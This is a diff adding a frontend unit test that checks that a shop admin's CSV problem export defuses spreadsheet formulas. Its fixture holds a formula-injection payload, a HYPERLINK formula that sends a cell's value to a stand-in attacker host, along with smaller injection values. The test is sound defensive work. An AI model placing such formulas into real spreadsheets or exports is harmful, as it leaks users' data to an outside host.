@@ -187,6 +187,63 @@ describe('CsvTools', () => {
     expect(api.callsTo('POST /admin/catalogue/import')).toHaveLength(0);
   });
 
+  it('downloads the problems as CSV with texts from the file defused, so a formula in a SKU never runs', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    stubApi({
+      'POST /admin/catalogue/import/preview': {
+        data: {
+          counts,
+          rows: [],
+          problems: [
+            problem(
+              3,
+              formula,
+              'sku',
+              'sku is letters, digits and . _ - / (at most 64, starting with a letter or digit).',
+            ),
+            problem(5, '+1+2', 'stock', '-1 is not a stock.'),
+            problem(7, 'KS000007', 'price_krw', 'price_krw must be a number.'),
+          ],
+          notices: [problem(9, '@SUM(A1)', 'stock', 'stock moved in the shop since the export')],
+        },
+      },
+    });
+    const saved: { blob: Blob; name: string }[] = [];
+    let last: Blob | undefined;
+    URL.createObjectURL = vi.fn((blob: Blob) => {
+      last = blob;
+      return 'blob:problems';
+    });
+    URL.revokeObjectURL = vi.fn();
+    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
+      this: HTMLAnchorElement,
+    ) {
+      saved.push({ blob: last!, name: this.download });
+    });
+    try {
+      const { user, chooseFile } = setup();
+      await chooseFile();
+      await user.click(screen.getByRole('button', { name: 'Preview import' }));
+      await user.click(await screen.findByRole('button', { name: 'Download problems' }));
+    } finally {
+      click.mockRestore();
+    }
+    expect(saved.map((s) => s.name)).toEqual(['kshop-import-problems.csv']);
+    const text = await new Promise<string>((resolve) => {
+      const reader = new FileReader();
+      reader.onload = () => resolve(String(reader.result));
+      reader.readAsText(saved[0]!.blob);
+    });
+    expect(text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
+      'row,sku,column,kind,message',
+      `3,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",sku,problem,"sku is letters, digits and . _ - / (at most 64, starting with a letter or digit)."`,
+      "5,'+1+2,stock,problem,'-1 is not a stock.",
+      '7,KS000007,price_krw,problem,price_krw must be a number.',
+      "9,'@SUM(A1),stock,notice,stock moved in the shop since the export",
+      '',
+    ]);
+  });
+
   it("shows the job's progress while the rows apply, then what the import changed", async () => {
     const states = [
       { ...job, status: 'queued' },
